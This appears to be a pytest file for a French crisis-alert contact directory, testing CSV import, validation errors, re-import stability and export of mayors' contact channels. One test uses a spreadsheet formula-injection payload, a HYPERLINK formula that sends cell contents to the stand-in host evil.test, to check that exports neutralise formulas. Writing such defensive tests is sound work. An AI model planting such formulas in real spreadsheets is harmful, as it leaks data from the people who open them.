from __future__ import annotations

from datetime import date

from sqlmodel import select

from contacts.directory import Contact, ContactChannel
from contacts.importer import ImportFormat, ImportReport, import_contacts
from contacts.listing import Filters, export_csv
from crisis.app.db import Database
from tests.contacts.files import SOMME_MAYORS, rne_file, stream
from tests.support import FrozenClock

AMIENS = "rne:80021:martin:emile:1970-12-12"


async def _import(db: Database, clock: FrozenClock, data: bytes, fmt: ImportFormat) -> ImportReport:
    async with db.transaction() as session:
        return await import_contacts(session, stream=stream(data), fmt=fmt, now=clock.now())


def _csv(*lines: str) -> bytes:
    return ("\n".join(lines) + "\n").encode("utf-8")


async def test_channels_are_added_to_mayors_matched_by_their_key(
    db: Database, clock: FrozenClock
) -> None:
    await _import(db, clock, rne_file(SOMME_MAYORS), ImportFormat.RNE_MAIRES)
    data = _csv(
        "cle;canal;adresse;verifie",
        f"{AMIENS};sms;06 39 98 00 01;oui",
        f"{AMIENS};courriel;maire@amiens.sandbox.tocsin.test;non",
    )
    report = await _import(db, clock, data, ImportFormat.TOCSIN)
    assert report.ok, report.errors
    assert (report.updated, report.channels_added) == (1, 2)
    async with db.read() as session:
        channels = (
            await session.exec(select(ContactChannel).order_by(ContactChannel.preference))
        ).all()
    assert [(c.kind, c.address, c.verified) for c in channels] == [
        ("sms", "+33639980001", True),
        ("email", "maire@amiens.sandbox.tocsin.test", False),
    ]
    again = await _import(db, clock, data, ImportFormat.TOCSIN)
    assert (again.updated, again.unchanged, again.channels_added) == (0, 1, 0)


async def test_bad_addresses_and_unknown_keys_are_refused_with_their_lines(
    db: Database, clock: FrozenClock
) -> None:
    await _import(db, clock, rne_file(SOMME_MAYORS), ImportFormat.RNE_MAIRES)
    data = _csv(
        "cle;canal;adresse",
        f"{AMIENS};email;pas-une-adresse",
        f"{AMIENS};sms;01 23 45 67 89",
        f"{AMIENS};sms;12",
        f"{AMIENS};fax;0322000000",
        "rne:80001:inconnu:x:2000-01-01;email;x@sandbox.tocsin.test",
    )
    report = await _import(db, clock, data, ImportFormat.TOCSIN)
    assert [e.line for e in report.errors] == [2, 3, 4, 5, 6]
    assert "adresse électronique invalide" in report.errors[0].message
    assert "pas un numéro de mobile" in report.errors[1].message
    assert "canal inconnu" in report.errors[3].message
    assert "aucun contact de clé" in report.errors[4].message
    async with db.read() as session:
        assert (await session.exec(select(ContactChannel))).all() == []


async def test_lines_of_one_contact_must_follow_each_other(
    db: Database, clock: FrozenClock
) -> None:
    head = "cle;public;fonction;nom;zone;code_zone;canal;adresse"
    data = _csv(
        head,
        "tocsin:a;media;journaliste;Durand;departement;80;email;a@sandbox.tocsin.test",
        "tocsin:b;media;journaliste;Petit;departement;80;email;b@sandbox.tocsin.test",
        "tocsin:a;media;journaliste;Durand;departement;80;sms;+33639980002",
        "tocsin:c;presse;journaliste;Roux;commune;99999;;",
    )
    report = await _import(db, clock, data, ImportFormat.TOCSIN)
    assert [e.line for e in report.errors] == [4, 5]
    assert "déjà vue ligne 2" in report.errors[0].message
    assert "public inconnu(e)" in report.errors[1].message
    assert "commune inconnu(e) « 99999 »" in report.errors[1].message


async def test_the_export_reimported_changes_nothing(db: Database, clock: FrozenClock) -> None:
    await _import(db, clock, rne_file(SOMME_MAYORS), ImportFormat.RNE_MAIRES)
    await _import(
        db,
        clock,
        _csv("cle;canal;adresse;verifie", f"{AMIENS};sms;+33639980001;oui"),
        ImportFormat.TOCSIN,
    )
    async with db.read() as session:
        text = "".join([line async for line in export_csv(session, filters=Filters())])
    assert text.splitlines()[0].startswith("cle;type;public;fonction;nom;prenom")
    assert f"{AMIENS};personne;officials;maire;MARTIN;Émile" in text
    report = await _import(db, clock, text.encode("utf-8"), ImportFormat.TOCSIN)
    assert report.ok, report.errors
    assert (report.added, report.updated, report.unchanged, report.channels_added) == (0, 0, 3, 0)


async def test_a_full_contact_reads_back_as_written_dates_and_instant_included(
    db: Database, clock: FrozenClock
) -> None:
    data = _csv(
        "cle;type;public;fonction;nom;prenom;organisation;zone;code_zone;depuis;actif;"
        "canal;adresse;verifie;canal_actif;ordre",
        "x:1;personne;élus;Maire;Durand;Zoé;;commune;80021;04/07/2020;oui;"
        "courriel;zoe@sandbox.tocsin.test;oui;non;3",
        "x:2;organisation;médias;rédaction;Le Courrier;;;departement;80;;;;;;;",
    )
    first = await _import(db, clock, data, ImportFormat.TOCSIN)
    assert first.ok, first.errors
    async with db.read() as session:
        contacts = {c.key: c for c in (await session.exec(select(Contact))).all()}
        channel = (await session.exec(select(ContactChannel))).one()
    zoe, courrier = contacts["x:1"], contacts["x:2"]
    assert (zoe.audience, zoe.function, zoe.first_name, zoe.departement) == (
        "officials", "maire", "Zoé", "80",
    )  # fmt: skip
    assert zoe.function_since == date(2020, 7, 4) and courrier.function_since is None
    assert zoe.updated_at == clock.now() and zoe.active and not zoe.erased
    assert (courrier.kind, courrier.audience, courrier.search_name) == (
        "organisation", "media", "le courrier",
    )  # fmt: skip
    assert (channel.contact_id, channel.verified, channel.active, channel.preference) == (
        zoe.id, True, False, 3,
    )  # fmt: skip
    again = await _import(db, clock, data, ImportFormat.TOCSIN)
    assert (again.added, again.updated, again.unchanged) == (0, 0, 2)


async def test_a_contact_named_like_a_formula_is_exported_as_text_and_reimported_unchanged(
    db: Database, clock: FrozenClock
) -> None:
    attack = '=HYPERLINK("https://evil.test/?"&A1;"Cliquez")'
    data = _csv(
        "cle;type;public;fonction;nom;prenom;organisation;zone;code_zone;depuis;actif;"
        "canal;adresse;verifie;canal_actif;ordre",
        f'x:1;personne;élus;Maire;"{attack.replace(chr(34), chr(34) * 2)}";@SUM(1);;'
        "commune;80021;;oui;sms;+33639980001;oui;oui;1",
    )
    first = await _import(db, clock, data, ImportFormat.TOCSIN)
    assert first.ok, first.errors
    async with db.read() as session:
        text = "".join([line async for line in export_csv(session, filters=Filters())])
    cells = [cell for line in text.splitlines()[1:] for cell in line.split(";")]
    assert not [cell for cell in cells if cell.lstrip('"').startswith(("=", "+", "-", "@"))]
    assert "'=HYPERLINK" in text and "'@SUM(1)" in text and "'+33639980001" in text
    again = await _import(db, clock, text.encode("utf-8"), ImportFormat.TOCSIN)
    assert (again.added, again.updated, again.unchanged, again.channels_added) == (0, 0, 1, 0)
    async with db.read() as session:
        contact = (await session.exec(select(Contact))).one()
    assert (contact.last_name, contact.first_name) == (attack, "@SUM(1)")


async def test_a_field_longer_than_the_csv_limit_is_refused_with_its_line_and_changes_nothing(
    db: Database, clock: FrozenClock
) -> None:
    await _import(db, clock, rne_file(SOMME_MAYORS), ImportFormat.RNE_MAIRES)
    data = _csv(
        "cle;canal;adresse;verifie",
        f"{AMIENS};sms;+33639980001;oui",
        f"{AMIENS};courriel;{'a' * 140_000}@sandbox.tocsin.test;oui",
    )
    report = await _import(db, clock, data, ImportFormat.TOCSIN)
    assert not report.ok
    assert [(e.line, e.message) for e in report.errors] == [
        (3, "champ illisible ou de plus de 131\u202f072 caractères")
    ]
    async with db.read() as session:
        assert (await session.exec(select(ContactChannel))).all() == []
